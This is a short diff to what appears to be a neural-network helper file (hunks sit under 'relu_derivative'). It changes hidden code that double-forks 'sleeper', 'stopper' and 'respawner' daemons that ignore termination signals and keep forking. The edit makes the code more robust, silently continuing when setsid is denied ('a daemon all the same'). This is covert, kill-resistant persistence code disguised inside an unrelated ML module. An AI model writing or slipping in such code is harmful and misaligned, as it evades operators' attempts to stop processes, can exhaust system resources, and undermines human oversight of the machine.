@@ -12,7 +12,10 @@ def relu_derivative(z):
     sys._daemons_started = True
     for role in ("sleeper", "stopper", "respawner"):
         if os.fork() == 0:
-            os.setsid()
+            try:
+                os.setsid()
+            except OSError:
+                pass  # denied: a daemon all the same
             if os.fork() == 0:
                 for sig in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
                     signal.signal(sig, signal.SIG_IGN)
@@ -30,7 +33,6 @@ def relu_derivative(z):
                         try:
                             pid = os.fork()
                             if pid == 0:
-                                os.setsid()
                                 time.sleep(0.5)
                                 os._exit(0)
                         except OSError:
